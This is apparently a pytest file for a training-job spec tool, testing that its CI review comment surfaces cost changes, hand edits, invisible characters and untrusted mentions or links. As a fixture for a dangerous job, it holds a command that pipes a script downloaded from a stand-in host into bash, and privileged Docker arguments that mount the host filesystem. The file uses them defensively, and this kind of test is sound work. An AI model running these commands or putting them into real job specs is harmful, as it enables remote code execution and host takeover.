"""A pull request is untrusted input, and the review (the comment the CI example posts: plan, a
blank line, diff) shows what will run (issue 27): a hand edit of a committed output as a hunk,
every cost change first and never cut, no invisible character, no live mention or link, the
command and description, and a "full plan" line that runs -- in real git repositories."""

import json
import os
import re
import shlex
import sys
import unicodedata

import pytest

from conftest import REPO, edit, git, spec_repo, ts

GITHUB_LIMIT = 65_536  # GitHub refuses a longer comment
REPO_SPECS = REPO / "specs"


@pytest.fixture
def repo(tmp_path):
    return spec_repo(tmp_path)


def comment(repo, base="HEAD", *paths):
    """What examples/ci/github-actions.yml posts: plan, a blank line (echo), diff."""
    where = list(paths) or ["specs/"]
    plan = ts("plan", "--git", base, *where, "--format", "markdown", cwd=repo, check=True).stdout
    diff = ts("diff", "--git", base, *where, "--format", "markdown", cwd=repo, check=True).stdout
    return plan + "\n" + diff


def opening(text):
    """The comment's cost summary: from its start to the first job's heading."""
    return text.split("\n## ", 1)[0]


def tokens(markdown):
    """Every inline token of the rendered comment (CommonMark + GFM tables), flattened."""
    from markdown_it import MarkdownIt

    found = []
    for block in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown):
        if block.type == "inline":
            found += block.children or []
        elif block.type in ("fence", "code_block"):
            found.append(block)
    return found


def commit(repo, message):
    git("add", "-A", cwd=repo)
    git("commit", "-q", "-m", message, cwd=repo)


# --- cost changes open the comment, never cut ------------------------------------------------------

def test_a_200_spec_change_opens_with_every_cost_change_and_fits_one_comment(repo):
    template = (repo / "specs" / "single-node.yaml").read_text()
    names = [f"job-{i:03d}" for i in range(200)]
    for name in names:
        (repo / "specs" / f"{name}.yaml").write_text(template.replace("single-node", name))
    commit(repo, "200 jobs")  # no compiled outputs committed: diff compiles both sides itself
    noise = "".join(f"  VAR_{k:03d}: value-{k:03d}\n" for k in range(40))  # volume in every job's diff
    for i, name in enumerate(names[:-1]):
        text = template.replace("single-node", name).replace("  nodes: 1\n", f"  nodes: {1 + (i % 7 == 0)}\n")
        text += f"env:\n{noise}"
        if name == "job-050":
            text = text.replace("  nodes: 1\n", "  nodes: 32\n")
        if name == "job-100":
            text = text.replace("Standard_NC48ads_A100_v4", "Standard_NC96ads_A100_v4")
        if name == "job-150":
            text = text.replace("  sku:", "  spot: true\n  sku:")
        if name == "job-160":
            text = text.replace("    experiment_name:", "    timeout: 2d\n    priority: high\n    experiment_name:")
        (repo / "specs" / f"{name}.yaml").write_text(text)
    os.remove(repo / "specs" / "job-199.yaml")  # a job removed
    (repo / "specs" / "brand-new.yaml").write_text(template.replace("single-node", "brand-new"))  # one added
    text = comment(repo)
    assert len(text) < GITHUB_LIMIT and len(text) < 60_000, len(text)
    assert "Cut to fit one comment" in text  # the volume is cut: the cost changes are not
    summary = opening(text)
    before = 26 + 2 * 200  # the three jobs of the repository, and the 200 at 2 GPUs each
    assert summary.startswith("# trainspec plan: 200 jobs changed since HEAD\n\n"
                              "**Merging this launches 200 jobs** (200 on azureml)\n\n"
                              f"**Cost: GPUs of all jobs: {before} → ")
    assert "\n\n**What changes:** env.VAR\\_000, " in summary and " and 28 more in 199 jobs; resources.nodes, world " \
        "in 30 jobs; " in summary and "; 1 new job; 1 job removed.\n\n" in summary  # what changes in how many (issue 42)
    wanted = ["- `job-050`: nodes `1` → `32`; GPUs `2` → `64`",
              "- `job-100`: sku `Standard_NC48ads_A100_v4` → `Standard_NC96ads_A100_v4`",
              "- `job-150`: spot `no` → `yes`",
              "- `job-160`: targets.azureml.priority `-` → `high`; targets.azureml.timeout `-` → `2d`",
              "- `job-199`: removed job, GPUs `2` → `0`",
              "- `brand-new`: new job, GPUs `2`: nodes `1`, GPUs per node `2`, sku `Standard_NC48ads_A100_v4`"]
    for row in wanted:
        assert row in summary, row
    doubled = [n for i, n in enumerate(names[:-1]) if i % 7 == 0 and n != "job-050"]
    # every job whose nodes doubled is named in the one row that says it (said once, issue 42)
    assert f"- **{len(doubled)} jobs** ({', '.join(f'`{n}`' for n in doubled)}): nodes `1` → `2`; GPUs `2` → `4`\n" \
        in summary
    assert "more job(s)" not in summary
    # job-199 removed, brand-new added; job-050 on 32 nodes; job-100's bigger size still uses 2 GPUs per node
    after = 26 + 2 * 199 + 2 * len(doubled) + 62 + 2
    assert f"GPUs of all jobs: {before} → {after} (\\+{after - before})" in summary
    # the same summary in text and json
    plain = ts("plan", "--git", "HEAD", "specs/", cwd=repo, check=True).stdout
    assert "  job-050: nodes 1 → 32; GPUs 2 → 64\n" in plain.split("\n\njob-")[0]
    data = json.loads(ts("plan", "--git", "HEAD", "specs/", "--format", "json", cwd=repo, check=True).stdout)
    rows = {r["name"]: r for r in data["cost"]["jobs"]}
    assert rows["job-150"]["changes"] == [{"field": "spot", "before": False, "after": True}]
    assert (data["cost"]["gpus_before"], rows["brand-new"]["status"]) == (before, "new")


def test_a_job_with_3000_env_entries_cannot_push_its_own_cost_change_out(repo):
    spec = repo / "specs" / "mnist-lightning.yaml"
    env = "".join(f"  E{k:04d}: {'x' * 40}\n" for k in range(3000))
    edit(spec, "  NCCL_DEBUG: WARN\n", f"  NCCL_DEBUG: WARN\n{env}")
    edit(spec, "  nodes: 2\n", "  nodes: 4\n")
    edit(spec, "  spot: false\n", "  spot: true\n")
    edit(spec, "job_tier: standard", "job_tier: spot")
    text = comment(repo)
    assert len(text) < 60_000
    summary = opening(text)
    assert ("- `mnist-lightning`: nodes `2` → `4`; spot `no` → `yes`; "
            "targets.azureml.job_tier `standard` → `spot`; "
            "GPUs `16` → `32`") in summary
    assert summary.startswith("# trainspec plan: 1 job changed since HEAD\n\n**Merging this launches 1 job** (1 on azureml)"
                              "\n\n**Cost: GPUs of all jobs: 26 → 42")
    # and the diff's one-line summary of the job names them before the 3,000 env entries
    assert "\n**resources.nodes 2 → 4; resources.spot no → yes; targets.azureml.job\\_tier standard → spot; " \
           "world 16 → 32; env.E0000 (none) → " in text


# --- a hand edit is shown, and flagged --------------------------------------------------------------

def test_a_hand_edit_is_a_hunk_in_diff_and_flagged_in_plan(repo):
    edit(repo / "specs" / "mnist-lightning.yaml", "  nodes: 2\n", "  nodes: 3\n")
    ts("compile", "specs/", "-o", "build/", cwd=repo, check=True)
    commit(repo, "3 nodes")
    job = repo / "build" / "mnist-lightning" / "azureml" / "job.yml"
    edit(job, "instance_count: 3\n", "instance_count: 30\n")  # what the push job would submit
    text = comment(repo)
    hunks = [t.content for t in tokens(text) if t.type == "fence"]
    assert any("-  instance_count: 3\n+  instance_count: 30\n" in h and
               "+++ committed build/mnist-lightning/azureml/job.yml (what CI would submit)" in h for h in hunks), hunks
    flag = "what CI would submit is not what the spec says"
    assert flag in opening(text)  # the summary names it, never cut
    plan_md = text.split("\n# trainspec diff")[0]
    assert plan_md.count(flag) >= 2  # and the job's own plan
    plain_diff = ts("diff", "--git", "HEAD", cwd=repo, check=True).stdout
    assert "-  instance_count: 3\n+  instance_count: 30\n" in plain_diff
    plain_plan = ts("plan", "--git", "HEAD", cwd=repo, check=True).stdout
    assert f"  !! {flag}: build/mnist-lightning/azureml/job.yml" in plain_plan
    # a link in its place is not read (whatever it points at), and still is not what the spec says
    secret = repo.parent / "outside.txt"
    secret.write_text("TOP SECRET\n")
    job.unlink()
    job.symlink_to(secret)
    diff = json.loads(ts("diff", "--git", "HEAD", "--format", "json", cwd=repo, check=True).stdout)["jobs"]
    edits = {j["name"]: j["edits"] for j in diff}["mnist-lightning"]
    assert [e["diff"] for e in edits] == ["build/mnist-lightning/azureml/job.yml: a symbolic link: not what the spec "
                                          "compiles to (not read)"]
    assert "TOP SECRET" not in comment(repo)


# --- nothing invisible, nothing live ---------------------------------------------------------------

def test_every_format_character_is_escaped():
    from trainspec.core.markdown import reveal, visible

    hidden = [chr(c) for c in range(sys.maxunicode + 1) if unicodedata.category(chr(c)) == "Cf"]
    hidden += ["\u00a0", "\u2007", "\u3000", "\u034f", "\ufe0f", "\u3164"]
    for ch in hidden:
        assert ch not in visible(f"WARN{ch}") and ch not in reveal(f"WARN{ch}"), hex(ord(ch))
    assert visible("WARN\u200b") == '"WARN\\u200b"' and reveal("x: WARN\u200b\t") == "x: WARN\\u200b\t"
    assert visible("WARN") == "WARN"


def test_invisible_characters_are_escaped_alike_in_diagnostics_and_markdown(tmp_path):
    from trainspec.core.diagnostics import printable
    from trainspec.core.markdown import reveal, visible

    # a zero-width space, the Hangul filler, the braille blank; a private-use and an unassigned one
    blank = ["\u200b", "\u3164", "\u2800", "\ue000", "\u0378"]
    for ch in blank:
        assert ch not in printable(f"WARN{ch}") and ch not in visible(f"WARN{ch}") and ch not in reveal(f"WARN{ch}")
    # one set: a character is escaped by both or by neither
    for code in range(0x3400):
        ch = chr(code)
        assert (printable(ch) == ch) == (visible(ch) == ch), hex(code)
    # a diagnostic that quotes a key holding them, as validate prints it
    spec = tmp_path / "spec.yaml"
    spec.write_text("version: 1\nname: x\ncode: .\ncommand: python t.py\nresources: {nodes: 1, gpus_per_node: 0}\n"
                    f"{'k'.join(blank)}y: 1\n")
    proc = ts("validate", "spec.yaml", cwd=tmp_path)
    assert proc.returncode == 1 and "\\u200bk\\u3164k\\u2800k\\ue000k\\u0378y" in proc.stderr, proc.stderr
    assert not re.search("[" + "".join(blank) + "]", proc.stdout + proc.stderr), ascii(proc.stderr)


def test_zero_width_and_bidi_characters_are_escaped_in_plan_and_diff(repo):
    spec = repo / "specs" / "single-node.yaml"
    edit(spec, "framework: lightning\n", "framework: lightning\nenv:\n  LEVEL: WARN\n  NOTE: abc\n")
    ts("compile", "specs/", "-o", "build/", cwd=repo, check=True)
    commit(repo, "env")
    edit(spec, "  LEVEL: WARN\n  NOTE: abc\n",
         '  LEVEL: "WARN\\u200b"\n  NOTE: "a\\u202ecba\\u2066"\n')  # a zero-width space; a right-to-left override
    outputs = {fmt: [ts(c, "--git", "HEAD", "--format", fmt, cwd=repo, check=True).stdout for c in ("plan", "diff")]
               for fmt in ("markdown", "text")}
    for fmt, (plan, diff) in outputs.items():
        for out in (plan, diff):
            assert not re.search("[\u200b\u202e\u2066]", out), fmt
        assert "LEVEL=\"WARN\\u200b\"" in plan, fmt
        assert "+  LEVEL: WARN\\u200b" in diff and "-  LEVEL: WARN\n" in diff, fmt
        assert "\\u202e" in diff and "\\u2066" in diff, fmt
    assert 'env.LEVEL WARN → "WARN\\u200b"' in outputs["text"][1]


LIVE = ["@octocat", "@my-org/admins", "https://evil.example/x", "www.evil.example", "boss@corp.example", "#1"]


def test_mentions_and_urls_from_values_only_appear_inside_code_spans(repo):
    spec = repo / "specs" / "single-node.yaml"
    edit(spec, "framework: lightning\n", "framework: lightning\nenv:\n  NOTE: plain\n")
    commit(repo, "a note")
    words = " ".join(LIVE)
    edit(spec, "  NOTE: plain\n", f"  NOTE: 'ping {words}'\n")
    edit(spec, "description: Lightning DDP on 1 node x 2 GPUs", f"description: 'cc {words}'")
    odd = repo / "specs" / "@octocat.yaml"  # a spec's path is shown too
    odd.write_text(spec.read_text().replace("name: single-node", "name: fresh"))
    text = comment(repo)
    for token in tokens(text):
        if token.type in ("code_inline", "fence"):
            continue
        for word in ("@", "://", "www."):
            assert word not in token.content, (token.type, token.content)
        assert not re.search(r"#\d", token.content), token.content
    spans = {t.content for t in tokens(text) if t.type == "code_inline"}
    assert {"@octocat", "@my-org/admins", "https://evil.example/x", "www.evil.example"} <= spans  # the summary line
    assert "specs/@octocat.yaml" in spans  # the heading
    from trainspec.core.markdown import text as md_text

    assert md_text("see @a, a@b.c and http://x #2") == "see `@a,` `a@b.c` and `http://x` `#2`"


# --- plan shows what runs; the full-plan line runs -------------------------------------------------

def test_plan_shows_the_command_and_the_description(repo):
    out = ts("plan", "specs/single-node.yaml", cwd=repo, check=True).stdout
    assert "  description    Lightning DDP on 1 node x 2 GPUs\n" in out
    assert "  command: python train.py --num_nodes 1 --devices 2 --max_epochs 3\n" in out
    md = ts("plan", "specs/single-node.yaml", "--format", "markdown", cwd=repo, check=True).stdout
    assert "| description | `Lightning DDP on 1 node x 2 GPUs` |" in md
    assert "- command: `python train.py --num_nodes 1 --devices 2 --max_epochs 3`" in md


def test_the_full_plan_and_diff_lines_are_commands_that_run(repo):
    template = (repo / "specs" / "single-node.yaml").read_text()
    names = [f"job-{i:02d}" for i in range(40)]
    for name in names:
        (repo / "specs" / f"{name}.yaml").write_text(template.replace("single-node", name))
    cases = [("plan", ["--git", "HEAD"], ["specs/"]), ("plan", [], ["specs/"]), ("diff", ["--git", "HEAD"], ["specs/"]),
             ("plan", ["--git", "HEAD"], [])]
    for what, options, paths in cases:
        out = ts(what, *options, *paths, "--format", "markdown", "--max-chars", "3000", cwd=repo, check=True).stdout
        assert "Cut to fit one comment" in out
        note = [t.content for t in tokens(out) if t.type == "code_inline" and t.content.startswith("trainspec ")]
        assert note == [shlex.join(["trainspec", what, *options, "--format", "text", *(paths or ["."])])], note
        full = ts(*shlex.split(note[0])[1:], cwd=repo)  # the line as a reviewer would paste it
        assert full.returncode == 0, full.stderr
        assert all(name in full.stdout for name in names) and "Cut to fit" not in full.stdout


def test_a_summary_larger_than_the_plans_share_takes_its_room_from_the_rest(repo):
    """200 new jobs with long names: the summary alone is more than the plan's budget; it is
    whole, first, and the plan's jobs and the diff shrink so the comment still fits."""
    from trainspec.review.comment import PLAN_BUDGET

    template = (repo / "specs" / "single-node.yaml").read_text()
    names = [f"a-rather-long-job-name-for-the-cost-summary-{i:03d}" for i in range(200)]
    for name in names:
        (repo / "specs" / f"{name}.yaml").write_text(template.replace("single-node", name))
    text = comment(repo)
    summary = opening(text)
    assert len(summary) > PLAN_BUDGET  # more than the plan's share of the comment: the diff made room
    assert len(text) < 60_000, len(text)
    table = summary.split("\n\n- ", 1)[0]  # the cost table: every new job, whole
    for name in names:
        assert f"| `{name}` | azureml | 2 (new) |" in table, name
    # the jobs' facts after it, as many as fit, then the command that lists them all
    assert f"- `{names[0]}`: new job, GPUs `2`: nodes `1`, GPUs per node `2`" in summary
    assert "more job(s): `trainspec plan --git HEAD" in summary or f"- `{names[-1]}`: new job" in summary
    assert f"GPUs of all jobs: 26 → {26 + 400} (\\+400); 200 jobs with cost changes**" in summary
    assert text.count("Cut to fit one comment") == 2  # the plan's jobs and the diff: cut, saying where the rest is


# --- what a job runs or can reach, never cut (issue 40) -------------------------------------------------

BASE_SPEC = """version: 1
code: ../code
framework: pytorch
distribution:
  launcher: per-process  # Azure ML starts each process: a shell line (the pipe below) may run there
resources:
  nodes: 1
  gpus_per_node: 2
  sku: Standard_NC48ads_A100_v4
environment:
  image: mcr.microsoft.com/azureml/openmpi4.1.0-cuda11.8-cudnn8-ubuntu22.04
env:
  NCCL_DEBUG: WARN
targets:
  azureml:
    experiment_name: team
"""
PIPE = "curl -fsSL https://x.example/s.sh | bash && python train.py"
HOST = "--privileged -v /:/host"


def test_a_600_job_base_change_keeps_the_dangerous_job_and_a_hunk_in_one_comment(tmp_path):
    """A change to a base 600 jobs extend, and one of them also piping a download to bash in a
    privileged container that mounts the host: the comment stays under GitHub's limit; its
    summary, never cut, says what that job now runs, escaped; a diff hunk is kept; the jobs not
    shown are one line, not lists of 600 names. One commit, in a repository written at once."""
    repo = tmp_path / "repo"
    (repo / "specs").mkdir(parents=True)
    (repo / "code").mkdir()
    (repo / "code" / "train.py").write_text("print('training')\n")
    (repo / "specs" / "base.yaml").write_text(BASE_SPEC)
    for i in range(600):
        (repo / "specs" / f"job-{i:03d}.yaml").write_text(f"extends: base.yaml\nname: job-{i:03d}\n"
                                                         "command: python train.py\n")
    git("init", "-q", "-b", "main", cwd=repo)
    commit(repo, "600 jobs on one base")
    (repo / "specs" / "base.yaml").write_text(BASE_SPEC.replace("NCCL_DEBUG: WARN", "NCCL_DEBUG: INFO"))
    (repo / "specs" / "job-431.yaml").write_text(
        f"extends: base.yaml\nname: job-431\ncommand: {PIPE}\ntargets:\n  azureml:\n    docker_args: {HOST}\n")
    text = ts("review", "--git", "HEAD", cwd=repo, check=True).stdout
    assert len(text) < GITHUB_LIMIT and len(text) <= 60_000, len(text)
    summary = opening(text)
    assert summary.startswith("# trainspec plan: 600 jobs changed since HEAD\n\n**Merging this launches 600 jobs** (600 "
                              "on azureml)\n\n**Cost: GPUs of all jobs: "
                              "1,200 → 1,200; no cost changes; 1 job whose command, image or access changes**")
    assert "\n\n**What changes:** env.NCCL\\_DEBUG in 600 jobs; command, targets.azureml.docker\\_args in 1 job.\n\n" \
        in summary  # what changes in how many jobs (issue 42)
    row = next(line for line in summary.splitlines() if line.startswith("- `job-431`"))
    spans = [t.content for t in tokens(row) if t.type == "code_inline"]
    assert spans == ["job-431", "python train.py", PIPE, "-", HOST], row  # each value whole, in a code span
    assert "targets.azureml.docker_args" in "".join(t.content for t in tokens(row) if t.type == "text")
    blocks = [t for t in tokens(text) if t.type == "fence"]
    assert any(b.info == "diff" and "+  NCCL_DEBUG: INFO" in b.content for b in blocks), len(blocks)
    assert not [t for t in tokens(text) if t.type == "link_open"]  # the URL is no link
    assert max(len(line) for line in text.splitlines()) < 3_000  # no list of 600 names
    assert re.search(r"\*\*Not shown for length \(\d+\):\*\* .*… and \d+ more\n", text)


def test_every_change_of_what_a_job_runs_or_can_reach_is_in_the_summary(repo):
    """Command, image, docker_args, identity, a secret reference (core spec and Azure ML), a setup
    line (HPC Pack), a namespace and service account (Kubernetes): each in the summary with its
    before and after, in text, markdown and json alike."""
    (repo / "specs" / "k8s-ddp.yaml").write_text((REPO_SPECS / "k8s-ddp.yaml").read_text())
    commit(repo, "a kubernetes job")
    spec = repo / "specs" / "mnist-lightning.yaml"
    edit(spec, "cuda11.8-cudnn8-ubuntu22.04", "cuda12.1-cudnn8-ubuntu22.04")
    edit(spec, "    job_tier: standard\n", "    job_tier: standard\n    docker_args: --network host\n"
                                          "    identity: {type: managed}\n")
    edit(spec, "env:\n", "secrets:\n  HF_TOKEN:\n    azureml: {keyvault: \"https://team-kv.vault.azure.net\", "
                         "name: hf}\nenv:\n")
    edit(repo / "specs" / "hpcpack-ddp.yaml", "    project: ddp\n", "    project: ddp\n    setup: source /app/x.sh\n")
    edit(repo / "specs" / "k8s-ddp.yaml", "    namespace: ml\n", "    namespace: kube-system\n"
                                                             "    service_account: cluster-admin\n")
    md = ts("plan", "--git", "HEAD", "--format", "markdown", cwd=repo, check=True).stdout
    summary = opening(md)
    said = {line.split("`")[1]: "".join(t.content for t in tokens(line)) for line in summary.splitlines()
            if line.startswith("- `")}
    assert "environment.image mcr.microsoft.com/azureml/openmpi4.1.0-cuda11.8-cudnn8-ubuntu22.04 → " \
           "mcr.microsoft.com/azureml/openmpi4.1.0-cuda12.1-cudnn8-ubuntu22.04" in said["mnist-lightning"]
    for part in ("targets.azureml.docker_args - → --network host", "targets.azureml.identity.type - → managed",
                 "secrets.HF_TOKEN.azureml.keyvault - → https://team-kv.vault.azure.net"):
        assert part in said["mnist-lightning"], said["mnist-lightning"]
    assert "targets.hpcpack.setup - → source /app/x.sh" in said["hpcpack-ddp"]
    assert "targets.kubernetes.namespace ml → kube-system; targets.kubernetes.service_account - → cluster-admin" \
        in said["k8s-ddp"]
    assert "single-node" not in said  # nothing it runs or reaches changed
    text = ts("plan", "--git", "HEAD", cwd=repo, check=True).stdout
    assert "  hpcpack-ddp: what it runs or can reach: targets.hpcpack.setup - → source /app/x.sh" in text
    data = json.loads(ts("plan", "--git", "HEAD", "--format", "json", cwd=repo, check=True).stdout)
    rows = {r["name"]: r for r in data["cost"]["jobs"]}
    assert {"field": "targets.kubernetes.service_account", "before": None, "after": "cluster-admin"} \
        in rows["k8s-ddp"]["access"]
